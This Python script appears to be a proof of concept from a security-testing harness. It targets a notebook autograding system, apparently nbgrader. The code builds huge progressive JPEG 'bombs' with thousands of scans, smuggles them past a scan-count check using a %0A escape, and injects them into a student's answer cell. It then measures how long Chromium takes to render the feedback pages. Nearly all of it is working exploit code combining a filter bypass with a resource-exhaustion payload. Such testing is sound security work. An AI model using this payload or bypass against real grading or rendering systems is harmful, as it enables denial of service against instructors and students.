"""a04: a03's escaped progressive JPEGs through the real grading: four 4096 x 4096 progressive JPEGs of 10,006 scans
each (the check refuses them plain: more than 32 scans), each with one %0A escape, displayed by an answer cell.
Then mallory's and aaron's feedback pages are opened in Chromium (1280x800 viewport), each image scrolled into view
and painted."""
import base64, os, sys, time, subprocess
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
from jpegbomb import big_jpeg, smuggle, image_size
from a03_jpeg_scans import repeat_scans
from playwright.sync_api import sync_playwright
raw = repeat_scans(big_jpeg(4096, 4096, progressive=True, size=256), 10000)
T, B = smuggle(raw)
print("plain check:", image_size("image/jpeg", B), "escaped check:", image_size("image/jpeg", T), "bytes", len(raw))
d = course("a04")
nb_m = nb_for("ps1_memory")
for c in nb_m.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "quiz_q1":
        c.source += "\nfrom IPython.display import display\nT = %r\nfor _ in range(4):\n    display({'image/jpeg': T, 'text/plain': 'x'}, raw=True)\n" % T
for s, nb in [("aaron", nb_for("ps1_memory")), ("mallory", nb_m), ("zoe", nb_for("ps1_memory"))]:
    hand_in(d, s, "ps1_memory", nb)
grade(d, "ps1_memory")
scores(d, "ps1_memory")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"]
for s in ["aaron", "mallory"]:
    for where in [f"autograded/{s}/ps1_memory/ps1_memory.ipynb", f"feedback/{s}/ps1_memory/ps1_memory.html"]:
        txt = open(os.path.join(d, where)).read()
        print(where, "escaped images kept:", txt.count(T[:80]))
    path = f"{d}/feedback/{s}/ps1_memory/ps1_memory.html"
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=ARGS)
        pg = b.new_page(viewport={"width": 1280, "height": 800})
        pg.goto("file://" + path, timeout=600000)
        n = pg.evaluate("() => document.images.length")
        times = []
        t0 = time.time()
        for i in range(n):
            t = time.time()
            pg.evaluate(f"() => document.images[{i}].scrollIntoView()")
            pg.screenshot(path=f"/tmp/attack42-root-img/a04-{s}-{i}.png", timeout=600000)
            times.append(round(time.time() - t, 1))
        sizes = pg.evaluate("() => Array.from(document.images).map(i => [i.naturalWidth, i.naturalHeight])")
        b.close()
    print(s, "feedback page images", sizes, "paint seconds each", times, "total", round(time.time() - t0, 1), flush=True)
